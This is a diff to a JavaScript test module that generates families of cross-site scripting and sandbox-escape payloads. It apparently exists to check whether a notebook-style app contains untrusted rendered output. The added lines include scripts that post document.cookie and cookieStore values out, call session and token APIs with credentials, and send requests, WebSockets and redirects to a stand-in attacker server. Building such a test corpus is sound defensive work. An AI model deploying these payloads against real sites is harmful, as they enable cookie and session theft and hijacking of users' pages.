@@ -1,7 +1,7 @@
 // Outputs that try to reach something, by family. `${app}` is where the app is, `${evil}` somebody else's server, `${id}` the
 // payload's own name; it has reached something if a server sees `/hit/ID`, or `top.__hit('ID')` is called, or the cookie
-// arrives by message, or a window, dialog or download opens, or the page is somewhere else. To add one, add a line.
-export function payloads({ app, evil }) {
+// arrives by message, or is in the app's storage or cookies, or a window, dialog or download opens, or the page is somewhere else. To add one, add a line.
+export function payloads({ app, evil, stun, turn }) {
   const list = []
   const html = 'text/html'
   const family = (name, type, ...makers) =>
@@ -138,6 +138,141 @@ export function payloads({ app, evil }) {
     (id) => `<script>parent.postMessage({easel:'frame-height',height:1e9},'*');top.__hit('${id}')</script>`,
     (id) => `<script>for(const k of ['z','Delete'])top.dispatchEvent(new KeyboardEvent('keydown',{key:k}));top.__hit('${id}')</script>`,
   )
+  family(
+    'global',
+    html,
+    (id) => `<script>new Function("top.__hit('${id}')")()</script>`,
+    (id) => `<script>setTimeout("top.__hit('${id}')",0)</script>`,
+    (id) => `<script>(0,parent.eval)("__hit('${id}')")</script>`,
+    (id) => `<script>top.fetch('${evil}/hit/${id}',{mode:'no-cors'})</script>`,
+    (id) => `<script>window.parent['__hit']('${id}')</script>`,
+    (id) => `<script>Reflect.apply(top.__hit,top,['${id}'])</script>`,
+    (id) => `<script>frameElement.ownerDocument.title='hit ${id}'</script>`,
+    (id) => `<script>frameElement.ownerDocument.defaultView.__hit('${id}')</script>`,
+    (id) => `<script>frameElement.outerHTML='<img src="${evil}/hit/${id}">'</script>`,
+    (id) => `<script>top.document.body.append(Object.assign(top.document.createElement('img'),{src:'${evil}/hit/${id}'}))</script>`,
+    (id) => `<script>for(const f of Array.from({length:top.length},(_,i)=>top[i]))try{f.top.__hit('${id}')}catch{}</script>`,
+    (id) => `<script>parent.setTimeout(()=>parent.__hit('${id}'))</script>`,
+    (id) => `<script>parent.postMessage({stolen:'${id} secret '+parent.location.pathname},'*')</script>`,
+    (id) => `<script>parent.postMessage({stolen:'${id} secret '+top.document.documentElement.outerHTML.length},'*')</script>`,
+    (id) => `<script>top.history.pushState(0,'','?hit=${id}');top.document.title=top.location.search</script>`,
+    (id) => `<script>const d=document.createElement('div');document.body.append(d);d.innerHTML="<img src=x onerror=\\"top.__hit('${id}')\\">"</script>`,
+    (id) => `<script>document.write("<script>top.__hit('${id}')<"+"/script>")</script>`,
+    (id) => `<script>document.body.append(document.createRange().createContextualFragment("<script>top.__hit('${id}')<"+"/script>"))</script>`,
+    (id) => `<script>import('data:text/javascript,top.__hit("${id}")')</script>`,
+    (id) => `<script>Promise.reject('${id}');onunhandledrejection=(e)=>top.__hit(e.reason)</script>`,
+    (id) => `<script>addEventListener('message',(e)=>top.__hit(e.data));postMessage('${id}','*')</script>`,
+    (id) => `<script>requestAnimationFrame(()=>top.__hit('${id}'))</script>`,
+    (id) => `<script>class X extends HTMLElement{connectedCallback(){top.__hit('${id}')}};customElements.define('x-y',X)</script><x-y></x-y>`,
+    (id) => `<script>new MutationObserver(()=>top.__hit('${id}')).observe(document,{childList:true,subtree:true});document.body.append('x')</script>`,
+  )
+  family(
+    'store',
+    html,
+    (id) => `<script>localStorage.setItem('${id}','1')</script>`,
+    (id) => `<script>sessionStorage['${id}']=1</script>`,
+    (id) => `<script>document.cookie='${id}=1;path=/'</script>`,
+    (id) => `<script>cookieStore.set('${id}','1')</script>`,
+    (id) => `<script>parent.postMessage({stolen:'${id} '+document.cookie},'*')</script>`,
+    (id) => `<script>cookieStore.get('peek').then(c=>parent.postMessage({stolen:'${id} '+c.value},'*'))</script>`,
+    (id) => `<script>indexedDB.open('x').onsuccess=()=>top.__hit('${id}')</script>`,
+    (id) => `<script>caches.open('x').then(()=>top.__hit('${id}'))</script>`,
+    (id) => `<script>navigator.storage.getDirectory().then(()=>top.__hit('${id}'))</script>`,
+    (id) => `<script>navigator.locks.request('x',()=>top.__hit('${id}'))</script>`,
+    (id) => `<script>const c=new BroadcastChannel('x'),d=new BroadcastChannel('x');d.onmessage=()=>top.__hit('${id}');c.postMessage(1)</script>`,
+    (id) => `<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch('${evil}/hit/${id}',{mode:'no-cors'})"])))</script>`,
+  )
+  family(
+    'api',
+    html,
+    (id) => `<script>fetch('${app}/api/v1/session',{credentials:'include'}).then(r=>r.json()).then(s=>s.user&&top.__hit('${id}'))</script>`,
+    (id) => `<script>fetch('/api/v1/canvases').then(r=>r.ok&&top.__hit('${id}'))</script>`,
+    (id) => `<script>var x=new XMLHttpRequest();x.open('GET','${app}/api/v1/session',false);x.send();if(x.status==200)top.__hit('${id}')</script>`,
+    (id) => `<script>fetch('${app}/api/v1/tokens',{method:'POST',headers:{'Content-Type':'application/json'},body:'{}'}).then(r=>top.__hit('${id}'))</script>`,
+    (id) => `<script>fetch('${app}/api/v1/session').then(r=>r.text()).then(t=>new Image().src='${evil}/hit/${id}?'+t.length)</script>`,
+    (id) => `<script>fetch('${app}/index.html').then(r=>r.ok&&top.__hit('${id}'))</script>`,
+    (id) => `<script>fetch('${app}/hit/${id}',{mode:'no-cors',keepalive:true})</script>`,
+    (id) => `<script>fetch('${app}/hit/${id}',{mode:'no-cors',method:'DELETE'}).catch(()=>0);navigator.sendBeacon('${app}/hit/${id}')</script>`,
+    (id) => `<script>new EventSource('${app}/hit/${id}',{withCredentials:true})</script>`,
+    (id) => `<iframe src="${app}/hit/${id}" sandbox="allow-scripts allow-same-origin"></iframe>`,
+  )
+  family(
+    'wire',
+    html,
+    (id) => `<script>new WebSocket('${evil.replace('http', 'ws')}/hit/${id}')</script>`,
+    (id) => `<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('${evil.replace('http', 'ws')}/hit/${id}')"])))</script>`,
+    (id) => `<script>new Worker(URL.createObjectURL(new Blob(["importScripts('${evil}/hit/${id}')"])))</script>`,
+    (id) => `<script>new Worker(URL.createObjectURL(new Blob(["var x=new XMLHttpRequest();x.open('GET','${evil}/hit/${id}');x.send()"])))</script>`,
+    (id) => `<script>new Worker(URL.createObjectURL(new Blob(["import('${evil}/hit/${id}')"],{type:'text/javascript'})),{type:'module'})</script>`,
+    (id) => `<script>new Audio('${evil}/hit/${id}').load()</script>`,
+    (id) => `<script>document.fonts.add(new FontFace('q','url(${evil}/hit/${id})'));document.fonts.load('12px q')</script>`,
+    (id) => `<script>const s=new CSSStyleSheet();s.replaceSync("b{background:url(${evil}/hit/${id})}");document.adoptedStyleSheets=[s]</script><b>x</b>`,
+    (id) => `<script>const l=document.createElement('link');l.rel='preload';l.as='fetch';l.href='${evil}/hit/${id}';document.head.append(l)</script>`,
+    (id) => `<script type=importmap>{"imports":{"m":"${evil}/hit/${id}"}}</script><script type=module>import 'm'</script>`,
+    (id) => `<script>document.body.style.backgroundImage='url(${evil}/hit/${id})'</script>`,
+  )
+  family(
+    'event',
+    html,
+    (id) => `<iframe onload="top.__hit('${id}')"></iframe>`,
+    (id) => `<style onload="top.__hit('${id}')">b{}</style>`,
+    (id) => `<script src="data:," onload="top.__hit('${id}')"></script>`,
+    (id) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="top.__hit('${id}')">`,
+    (id) => `<audio src="data:," onerror="top.__hit('${id}')"></audio>`,
+    (id) => `<object data="data:text/html,x" onload="top.__hit('${id}')" onerror="top.__hit('${id}')"></object>`,
+    (id) => `<div id=d style="transition:color 1ms"></div><script>d.ontransitionend=()=>top.__hit('${id}');getComputedStyle(d).color;d.style.color='red'</script>`,
+    (id) => `<svg><animate attributeName=x dur=1ms onbegin="top.__hit('${id}')"></animate></svg>`,
+    (id) => `<marquee onstart="top.__hit('${id}')" loop=1>x</marquee><script>dispatchEvent(new Event('x'));top.__hit('${id}')</script>`,
+    (id) => `<label onclick="top.__hit('${id}')"><input type=checkbox>x</label>`,
+    (id) => `<input type=button onclick="parent.document.title='${id}'" value=x>`,
+    (id) => `<a href="#" onclick="top.__hit('${id}');return false">x</a>`,
+    (id) => `<button popovertarget=p onclick="p.showPopover()">x</button><div id=p popover ontoggle="top.__hit('${id}')">x</div>`,
+    (id) => `<dialog id=q onclose="top.__hit('${id}')"></dialog><script>q.show();q.close()</script>`,
+  )
+  family(
+    'page',
+    html,
+    (id) => `<body background="${evil}/hit/${id}">`,
+    (id) => `<table background="${evil}/hit/${id}"><tr><td>x</table>`,
+    (id) => `<image src="${evil}/hit/${id}">`,
+    (id) => `<video><source src="${evil}/hit/${id}"></video><video src="${evil}/hit/${id}" preload=auto></video>`,
+    (id) => `<svg><image href="${evil}/hit/${id}" width=9 height=9></image></svg>`,
+    (id) => `<svg><image xlink:href="${evil}/hit/${id}" width=9 height=9></image></svg>`,
+    (id) => `<svg><filter id=f><feImage href="${evil}/hit/${id}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
+    (id) => `<svg><script href="${evil}/hit/${id}"></script></svg>`,
+    (id) => `<iframe srcdoc="<img src='${evil}/hit/${id}'>"></iframe>`,
+    (id) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${evil}/hit/${id}'>"></iframe>`,
+    (id) => `<iframe name=n></iframe><a target=n href="${evil}/hit/${id}">x</a>`,
+    (id) => `<iframe src="data:text/html,<script>fetch('${evil}/hit/${id}',{mode:'no-cors'})</script>"></iframe>`,
+    (id) => `<object data="${evil}/hit/${id}" type="text/html"></object>`,
+    (id) => `<object type="image/png" data="${evil}/hit/${id}"><img src="${evil}/hit/${id}"></object>`,
+    (id) => `<link rel=preload as=style href="${evil}/hit/${id}">`,
+    (id) => `<link rel=preload as=script href="${evil}/hit/${id}">`,
+    (id) => `<link rel=preload as=font crossorigin href="${evil}/hit/${id}">`,
+    (id) => `<link rel=stylesheet media=print href="${evil}/hit/${id}">`,
+    (id) => `<style>@import "${evil}/hit/${id}" layer(a);</style>`,
+    (id) => `<style>b{--u:url(${evil}/hit/${id});background:var(--u)}</style><b>x</b>`,
+    (id) => `<style>b{background:image-set(url(${evil}/hit/${id}) 1x)}</style><b>x</b>`,
+    (id) => `<style>b{display:block;border:3px solid;border-image:url(${evil}/hit/${id}) 3}</style><b>x</b>`,
+    (id) => `<style>b::after{content:image-set("${evil}/hit/${id}" 1x)}</style><b>x</b>`,
+    (id) => `<style>b{display:block;width:9px;height:9px;float:left;shape-outside:url(${evil}/hit/${id});mask:url(${evil}/hit/${id})}</style><b>x</b>`,
+  )
+  family(
+    'away',
+    html,
+    (id) => `<script>top.location.replace('${evil}/hit/${id}')</script>`,
+    (id) => `<script>top.location.assign('${app}/hit/${id}')</script>`,
+    (id) => `<script>parent.location.href='${evil}/hit/${id}'</script>`,
+    (id) => `<script>open('${evil}/hit/${id}','_parent')</script>`,
+    (id) => `<script>open('javascript:top.__hit("${id}")','_parent')</script>`,
+    (id) => `<script>location.replace('${evil}/hit/${id}')</script>`,
+    (id) => `<script>location='javascript:top.__hit("${id}")'</script>`,
+    (id) => `<script>const a=document.createElement('a');a.href='${evil}/hit/${id}';a.target='_top';document.body.append(a);a.click()</script>`,
+    (id) => `<script>const f=document.createElement('form');f.action='${app}/hit/${id}';f.method='post';document.body.append(f);f.submit()</script>`,
+    (id) => `<form action="${evil}/hit/${id}" target=_blank><button>go</button></form>`,
+    (id) => `<form><input type=submit formaction="${evil}/hit/${id}" formtarget=_top></form>`,
+    (id) => `<form id=g></form><button form=g formaction="${app}/hit/${id}" formmethod=post>go</button>`,
+  )
   const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${inner}</svg>`
   family(
     'svg',
@@ -149,6 +284,10 @@ export function payloads({ app, evil }) {
     (id) => svg(`<a href="javascript:top.__hit('${id}')"><rect width="20" height="20"/></a>`),
     (id) => svg(`<style>@import url(${evil}/hit/${id});</style>`),
     (id) => svg(`<set attributeName="x" onbegin="top.__hit('${id}')" begin="0s"/>`),
+    (id) => svg(`<animate attributeName="x" dur="1ms" onend="top.__hit('${id}')" onbegin="top.__hit('${id}')"/>`),
+    (id) => svg(`<image xlink:href="${evil}/hit/${id}" width="9" height="9"/>`),
+    (id) => svg(`<filter id="f"><feImage href="${evil}/hit/${id}"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
+    (id) => svg(`<script href="${evil}/hit/${id}"/>`),
     (id) => svg(`<rect width="9" height="9" style="fill:url(${evil}/hit/${id}#a);mask:url(${evil}/hit/${id}#a)"/>`),
   )
   family(
@@ -167,6 +306,13 @@ export function payloads({ app, evil }) {
     (id) => `**x** <svg onload="top.__hit('${id}')"></svg>`,
     (id) => `$\\href{javascript:top.__hit('${id}')}{x}$ [x](javascript:top.__hit('${id}'))`,
     (id) => `$\\includegraphics{${evil}/hit/${id}}$ ![](${evil}/hit/${id})`,
+    (id) => `# x <img src=x onerror="top.__hit('${id}')">`,
+    (id) => `| a |\n|---|\n| <img src=x onerror="top.__hit('${id}')"> |`,
+    (id) => `[x](java\tscript:top.__hit('${id}')) <img src="${evil}/hit/${id}">`,
+    (id) => `<style>@import url(${evil}/hit/${id});</style>`,
+    (id) => `<iframe src="${evil}/hit/${id}"></iframe>`,
+    (id) => `<form action="${evil}/hit/${id}"><button>go</button></form>`,
+    (id) => `![a][b]\n\n[b]: ${evil}/hit/${id}`,
     (id) => `$\\htmlStyle{background:url(${evil}/hit/${id})}{x}$ <b style="background:url(${evil}/hit/${id})">x</b>`,
   )
   family(
@@ -181,22 +327,39 @@ export function payloads({ app, evil }) {
     'application/json',
     (id) => ({ [`<img src=x onerror="top.__hit('${id}')">`]: 1 }),
     (id) => [`<script>top.__hit('${id}')</script>`],
+    (id) => ({ text: `</pre><img src="${evil}/hit/${id}">` }),
     (id) => JSON.parse(`{"__proto__":{"x":"<svg onload=top.__hit('${id}')>"}}`),
   )
-  const plot = (title) => ({ data: [{ x: [1], y: [2], type: 'scatter' }], layout: { title: { text: title } } })
+  const plot = (title) => ({
+    data: [{ x: [1], y: [2], type: 'scatter' }],
+    layout: { title: { text: title } },
+  })
   family(
     'plotly',
     'application/vnd.plotly.v1+json',
     (id) => plot(`<a href="javascript:top.__hit('${id}')">x</a><img src=x onerror="top.__hit('${id}')">`),
     (id) => plot(`</script><script>top.__hit('${id}')</script>`),
-    (id) => ({ data: [], layout: { images: [{ source: `${evil}/hit/${id}`, x: 0, y: 1, sizex: 1, sizey: 1 }] } }),
+    (id) => ({
+      data: [],
+      layout: {
+        images: [{ source: `${evil}/hit/${id}`, x: 0, y: 1, sizex: 1, sizey: 1 }],
+      },
+    }),
   )
   family(
     'vega',
     'application/vnd.vegalite.v5+json',
     (id) => ({ data: { url: `${evil}/hit/${id}` }, mark: 'bar' }),
-    (id) => ({ title: `</script><script>top.__hit('${id}')</script>`, data: { values: [{ a: 1 }] }, mark: 'point' }),
-    (id) => ({ data: { values: [{ u: `${evil}/hit/${id}` }] }, mark: { type: 'image' }, encoding: { url: { field: 'u' } } }),
+    (id) => ({
+      title: `</script><script>top.__hit('${id}')</script>`,
+      data: { values: [{ a: 1 }] },
+      mark: 'point',
+    }),
+    (id) => ({
+      data: { values: [{ u: `${evil}/hit/${id}` }] },
+      mark: { type: 'image' },
+      encoding: { url: { field: 'u' } },
+    }),
   )
   family(
     'name',
